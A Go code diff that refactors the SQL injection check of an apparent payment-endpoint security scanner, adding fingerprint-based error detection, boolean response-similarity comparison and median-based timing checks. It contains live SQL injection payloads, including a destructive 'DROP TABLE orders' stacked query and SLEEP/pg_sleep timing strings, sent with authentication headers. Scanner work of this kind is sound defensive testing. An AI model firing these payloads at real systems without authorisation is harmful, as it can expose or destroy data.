@@ -4,132 +4,310 @@ import (
 	"fmt"
 	"net/http"
 	"net/url"
-	"strings"
+	"regexp"
+	"sort"
 	"time"
 
 	"github.com/SpaceLeam/web-Payment-scanner/internal/models"
+	"github.com/SpaceLeam/web-Payment-scanner/internal/scanner/fingerprints"
 	"github.com/SpaceLeam/web-Payment-scanner/internal/utils"
 )
 
+const (
+	sqliBooleanTrueSimilarity  = 0.95 // TRUE payload must look at least this close to baseline
+	sqliBooleanFalseSimilarity = 0.85 // FALSE payload must look no closer than this to baseline
+	sqliTimeBasedRuns          = 3    // sleep/control measurements taken before judging a time-based hit
+	sqliTimeBasedMinRatio      = 0.8  // required fraction of the requested delay to count as a hit
+	sqliSimilarityCompareLen   = 4096 // bytes of normalized body compared for similarity, to bound O(n*m) cost
+)
+
+// sqlErrorPayloads are classic error-triggering payloads checked against
+// the DBMS fingerprint database for error-based detection.
+var sqlErrorPayloads = []struct {
+	name    string
+	payload string
+}{
+	{"Boolean-based blind", "' OR '1'='1"},
+	{"Union-based", "' UNION SELECT NULL,NULL,NULL--"},
+	{"Stacked queries", "'; DROP TABLE orders--"},
+	{"MySQL", "' OR 1=1#"},
+	{"MSSQL", "' OR 1=1;--"},
+}
+
+// sqlTimePayloads are time-based payloads checked under the statistical
+// guard, alongside the delay each asks the database to sleep for.
+var sqlTimePayloads = []struct {
+	name    string
+	payload string
+	delay   time.Duration
+}{
+	{"MySQL", "' AND SLEEP(5)-- ", 5 * time.Second},
+	{"PostgreSQL", "' OR 1=1; SELECT pg_sleep(5)-- ", 5 * time.Second},
+}
+
+const sqlRemediation = `Use parameterized queries (prepared statements):
+
+// Go example with database/sql:
+// VULNERABLE:
+query := fmt.Sprintf("SELECT * FROM payments WHERE id = '%s'", paymentID)
+rows, err := db.Query(query)
+
+// SECURE:
+stmt, err := db.Prepare("SELECT * FROM payments WHERE id = ?")
+rows, err := stmt.Query(paymentID)
+
+// Or with ORM (GORM):
+var payment Payment
+db.Where("id = ?", paymentID).First(&payment)`
+
+var sqlReferences = []string{
+	"https://cwe.mitre.org/data/definitions/89.html",
+	"https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
+}
+
+const sqlImpact = "Attacker can extract entire database, modify data, or execute arbitrary SQL commands"
+
+// Regexes used by normalizeSQLiResponse to strip the parts of a response
+// body that vary between otherwise-identical requests (timestamps, CSRF
+// tokens, nonces), so the boolean-based differential comparison isn't
+// thrown off by noise unrelated to the injected payload.
+var (
+	sqliISOTimestampRe  = regexp.MustCompile(`\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})?`)
+	sqliUnixTimestampRe = regexp.MustCompile(`\b1[0-9]{9,12}\b`)
+	sqliTokenRe         = regexp.MustCompile(`(?i)(csrf[_-]?token|_token|nonce)["']?\s*[:=]\s*["'][A-Za-z0-9+/=_-]{8,}["']`)
+)
+
+func normalizeSQLiResponse(body string) string {
+	body = sqliISOTimestampRe.ReplaceAllString(body, "<timestamp>")
+	body = sqliUnixTimestampRe.ReplaceAllString(body, "<timestamp>")
+	body = sqliTokenRe.ReplaceAllString(body, "<token>")
+	return body
+}
+
 // TestPaymentSQLInjection tests for SQL injection in payment parameters
-func TestPaymentSQLInjection(endpoint models.Endpoint, session *models.Session) []models.Vulnerability {
+// using three independent techniques: error-based detection against a
+// DBMS fingerprint database, boolean-based differential response
+// comparison, and time-based detection with a statistical guard. Each
+// technique carries its own Confidence, since raw substring matching on
+// error strings like "SQL syntax" produced high false-positive rates on
+// pages that legitimately mention those terms.
+func TestPaymentSQLInjection(endpoint models.Endpoint, session *models.Session, rl *utils.RateLimiter) []models.Vulnerability {
 	vulns := []models.Vulnerability{}
-	
-	// SQL injection payloads
-	sqlPayloads := []struct {
-		name    string
-		payload string
-	}{
-		{"Boolean-based blind", "' OR '1'='1"},
-		{"Time-based blind", "' AND SLEEP(5)--"},
-		{"Union-based", "' UNION SELECT NULL,NULL,NULL--"},
-		{"Error-based", "' AND 1=CONVERT(int,(SELECT @@version))--"},
-		{"Stacked queries", "'; DROP TABLE orders--"},
-		{"PostgreSQL", "' OR 1=1; SELECT pg_sleep(5)--"},
-		{"MySQL", "' OR 1=1#"},
-		{"MSSQL", "' OR 1=1;--"},
+	client := utils.NewHTTPClientForEndpoint(15 * time.Second, session, endpoint)
+	fps := fingerprints.LoadSQL(fingerprints.DefaultSQLFingerprintsPath)
+
+	const baselineValue = "1"
+	baselineBody, _, err := sqliRequest(client, rl, endpoint, session, baselineValue)
+	if err != nil {
+		return vulns
 	}
-	
-	client := utils.NewHTTPClient(15 * time.Second)
-	
-	for _, sqli := range sqlPayloads {
-		// Test in URL parameters
-		testURL := endpoint.URL + "?payment_id=" + url.QueryEscape(sqli.payload)
-		
-		req, _ := http.NewRequest("GET", testURL, nil)
-		addAuthHeaders(req, session)
-		
-		startTime := time.Now()
-		resp, err := client.Do(req)
-		duration := time.Since(startTime)
-		
+
+	// 1. Error-based: classic payloads checked against the DBMS
+	// fingerprint database, rather than a handful of bare substrings.
+	for _, sqli := range sqlErrorPayloads {
+		body, _, err := sqliRequest(client, rl, endpoint, session, sqli.payload)
 		if err != nil {
 			continue
 		}
-		
-		bodyBytes := make([]byte, 8192)
-		n, _ := resp.Body.Read(bodyBytes)
-		resp.Body.Close()
-		body := string(bodyBytes[:n])
-		
-		// Detection logic
-		// 1. Time-based: if SLEEP(5) and duration > 5s
-		if strings.Contains(sqli.payload, "SLEEP") && duration > 5*time.Second {
+
+		if engine, pattern, ok := fingerprints.MatchSQLError(body, fps); ok {
 			vulns = append(vulns, models.Vulnerability{
 				Type:        "SQL Injection",
 				Severity:    "CRITICAL",
-				Title:       fmt.Sprintf("Time-based Blind SQL Injection (%s)", sqli.name),
-				Description: fmt.Sprintf("SQL injection detected using time-based technique. Payload caused %v delay.", duration),
-				Endpoint:    testURL,
+				Title:       fmt.Sprintf("Error-based SQL Injection (%s, %s)", sqli.name, engine),
+				Description: fmt.Sprintf("%s error signature leaked in the response, confirming unsanitized input reaches the database.", engine),
+				Endpoint:    endpoint.URL,
 				Method:      "GET",
 				Payload:     sqli.payload,
-				Proof:       fmt.Sprintf("Payload: %s, Duration: %v (expected: >5s)", sqli.payload, duration),
+				Proof:       fmt.Sprintf("Payload: %s, matched %s fingerprint /%s/", sqli.payload, engine, pattern),
 				Timestamp:   time.Now(),
 				CWE:         "CWE-89",
 				CVSSScore:   9.8,
 				CVSSVector:  "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
 				Confidence:  "High",
-				Impact:      "Attacker can extract entire database, modify data, or execute arbitrary SQL commands",
-				Remediation: `Use parameterized queries (prepared statements):
-
-// Go example with database/sql:
-// VULNERABLE:
-query := fmt.Sprintf("SELECT * FROM payments WHERE id = '%s'", paymentID)
-rows, err := db.Query(query)
+				Impact:      sqlImpact,
+				Remediation: sqlRemediation,
+				References:  sqlReferences,
+			})
+		}
+	}
 
-// SECURE:
-stmt, err := db.Prepare("SELECT * FROM payments WHERE id = ?")
-rows, err := stmt.Query(paymentID)
+	// 2. Boolean-based differential: a TRUE payload should reproduce the
+	// baseline almost exactly, a FALSE payload should diverge from it.
+	trueBody, _, errTrue := sqliRequest(client, rl, endpoint, session, baselineValue+"' AND 1=1-- ")
+	falseBody, _, errFalse := sqliRequest(client, rl, endpoint, session, baselineValue+"' AND 1=2-- ")
+	if errTrue == nil && errFalse == nil {
+		trueSim := similarityRatio(normalizeSQLiResponse(baselineBody), normalizeSQLiResponse(trueBody))
+		falseSim := similarityRatio(normalizeSQLiResponse(baselineBody), normalizeSQLiResponse(falseBody))
 
-// Or with ORM (GORM):
-var payment Payment
-db.Where("id = ?", paymentID).First(&payment)`,
-				References: []string{
-					"https://cwe.mitre.org/data/definitions/89.html",
-					"https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
-				},
+		if trueSim >= sqliBooleanTrueSimilarity && falseSim <= sqliBooleanFalseSimilarity {
+			vulns = append(vulns, models.Vulnerability{
+				Type:        "SQL Injection",
+				Severity:    "CRITICAL",
+				Title:       "Boolean-based Blind SQL Injection",
+				Description: "The response to an always-true injected condition matches the baseline, while an always-false condition diverges, indicating the query's WHERE clause is influenced by unsanitized input.",
+				Endpoint:    endpoint.URL,
+				Method:      "GET",
+				Payload:     "' AND 1=1-- / ' AND 1=2-- ",
+				Proof:       fmt.Sprintf("TRUE payload similarity to baseline: %.2f (>= %.2f), FALSE payload similarity: %.2f (<= %.2f)", trueSim, sqliBooleanTrueSimilarity, falseSim, sqliBooleanFalseSimilarity),
+				Timestamp:   time.Now(),
+				CWE:         "CWE-89",
+				CVSSScore:   9.8,
+				CVSSVector:  "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
+				Confidence:  "Medium",
+				Impact:      sqlImpact,
+				Remediation: sqlRemediation,
+				References:  sqlReferences,
 			})
 		}
-		
-		// 2. Error-based: SQL error messages in response
-		sqlErrors := []string{
-			"SQL syntax",
-			"mysql_fetch",
-			"PostgreSQL",
-			"ORA-",
-			"Microsoft SQL",
-			"ODBC",
-			"SQLite",
-			"Unclosed quotation mark",
-			"syntax error",
-		}
-		
-		for _, errMsg := range sqlErrors {
-			if strings.Contains(body, errMsg) {
-				vulns = append(vulns, models.Vulnerability{
-					Type:        "SQL Injection",
-					Severity:    "CRITICAL",
-					Title:       fmt.Sprintf("Error-based SQL Injection (%s)", sqli.name),
-					Description: fmt.Sprintf("SQL error message exposed in response: %s", errMsg),
-					Endpoint:    testURL,
-					Method:      "GET",
-					Payload:     sqli.payload,
-					Proof:       fmt.Sprintf("Response contains SQL error: %s", errMsg),
-					Timestamp:   time.Now(),
-					CWE:         "CWE-89",
-					CVSSScore:   9.8,
-					CVSSVector:  "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
-					Confidence:  "High",
-					Remediation: "Use parameterized queries and disable detailed error messages in production",
-					References: []string{
-						"https://cwe.mitre.org/data/definitions/89.html",
-						"https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
-					},
-				})
+	}
+
+	// 3. Time-based: repeat the sleep payload and a no-sleep control
+	// sqliTimeBasedRuns times and compare medians, so one slow response
+	// on a loaded endpoint doesn't flip a false positive.
+	for _, tp := range sqlTimePayloads {
+		sleepTimes := make([]time.Duration, 0, sqliTimeBasedRuns)
+		controlTimes := make([]time.Duration, 0, sqliTimeBasedRuns)
+
+		ok := true
+		for i := 0; i < sqliTimeBasedRuns; i++ {
+			_, d, err := sqliRequest(client, rl, endpoint, session, baselineValue+tp.payload)
+			if err != nil {
+				ok = false
+				break
+			}
+			sleepTimes = append(sleepTimes, d)
+
+			_, d, err = sqliRequest(client, rl, endpoint, session, baselineValue)
+			if err != nil {
+				ok = false
 				break
 			}
+			controlTimes = append(controlTimes, d)
+		}
+		if !ok || len(sleepTimes) == 0 {
+			continue
+		}
+
+		sleepMedian := medianDuration(sleepTimes)
+		controlMedian := medianDuration(controlTimes)
+		required := time.Duration(float64(tp.delay) * sqliTimeBasedMinRatio)
+
+		if sleepMedian-controlMedian >= required {
+			vulns = append(vulns, models.Vulnerability{
+				Type:        "SQL Injection",
+				Severity:    "CRITICAL",
+				Title:       fmt.Sprintf("Time-based Blind SQL Injection (%s)", tp.name),
+				Description: fmt.Sprintf("SQL injection detected using time-based technique: requesting a %v delay consistently added %v over %d runs.", tp.delay, sleepMedian-controlMedian, sqliTimeBasedRuns),
+				Endpoint:    endpoint.URL,
+				Method:      "GET",
+				Payload:     tp.payload,
+				Proof:       fmt.Sprintf("Payload: %s, median sleep response: %v, median control: %v (n=%d, required margin >= %v)", tp.payload, sleepMedian, controlMedian, sqliTimeBasedRuns, required),
+				Timestamp:   time.Now(),
+				CWE:         "CWE-89",
+				CVSSScore:   9.8,
+				CVSSVector:  "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
+				Confidence:  "High",
+				Impact:      sqlImpact,
+				Remediation: sqlRemediation,
+				References:  sqlReferences,
+			})
 		}
 	}
-	
+
 	return vulns
 }
+
+// sqliRequest issues a single GET against endpoint with value substituted
+// into the payment_id parameter, returning the first 8KB of the response
+// body and the request's wall-clock duration.
+func sqliRequest(client *http.Client, rl *utils.RateLimiter, endpoint models.Endpoint, session *models.Session, value string) (body string, duration time.Duration, err error) {
+	testURL := endpoint.URL + "?payment_id=" + url.QueryEscape(value)
+
+	req, err := http.NewRequest("GET", testURL, nil)
+	if err != nil {
+		return "", 0, err
+	}
+	addAuthHeaders(req, session)
+
+	rl.Wait(endpoint.URL)
+	start := time.Now()
+	resp, err := client.Do(req)
+	duration = time.Since(start)
+	if err != nil {
+		return "", duration, err
+	}
+	defer resp.Body.Close()
+	rl.RecordHTTPResponse(testURL, resp)
+
+	buf := make([]byte, 8192)
+	n, _ := resp.Body.Read(buf)
+	return string(buf[:n]), duration, nil
+}
+
+// medianDuration returns the median of durations. Callers only invoke it
+// with a non-empty slice.
+func medianDuration(durations []time.Duration) time.Duration {
+	sorted := append([]time.Duration(nil), durations...)
+	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
+	mid := len(sorted) / 2
+	if len(sorted)%2 == 0 {
+		return (sorted[mid-1] + sorted[mid]) / 2
+	}
+	return sorted[mid]
+}
+
+// similarityRatio implements the Ratcliff/Obershelp algorithm: find the
+// longest common substring, then recurse on the unmatched left and right
+// remainders, and return 2*M / T where M is the total matched length and
+// T is the combined length of both strings. Inputs are truncated to
+// sqliSimilarityCompareLen bytes first, since the DP below is O(n*m).
+func similarityRatio(a, b string) float64 {
+	if len(a) > sqliSimilarityCompareLen {
+		a = a[:sqliSimilarityCompareLen]
+	}
+	if len(b) > sqliSimilarityCompareLen {
+		b = b[:sqliSimilarityCompareLen]
+	}
+	if len(a) == 0 && len(b) == 0 {
+		return 1
+	}
+	return 2 * float64(matchingCharacters(a, b)) / float64(len(a)+len(b))
+}
+
+func matchingCharacters(a, b string) int {
+	aIdx, bIdx, length := longestCommonSubstring(a, b)
+	if length == 0 {
+		return 0
+	}
+	matched := length
+	matched += matchingCharacters(a[:aIdx], b[:bIdx])
+	matched += matchingCharacters(a[aIdx+length:], b[bIdx+length:])
+	return matched
+}
+
+// longestCommonSubstring runs the standard O(n*m) DP and returns the
+// start index of the match in each string plus its length.
+func longestCommonSubstring(a, b string) (aIdx, bIdx, length int) {
+	prev := make([]int, len(b)+1)
+	curr := make([]int, len(b)+1)
+	for i := 1; i <= len(a); i++ {
+		for j := 1; j <= len(b); j++ {
+			if a[i-1] == b[j-1] {
+				curr[j] = prev[j-1] + 1
+				if curr[j] > length {
+					length = curr[j]
+					aIdx = i - length
+					bIdx = j - length
+				}
+			} else {
+				curr[j] = 0
+			}
+		}
+		prev, curr = curr, prev
+		for j := range curr {
+			curr[j] = 0
+		}
+	}
+	return
+}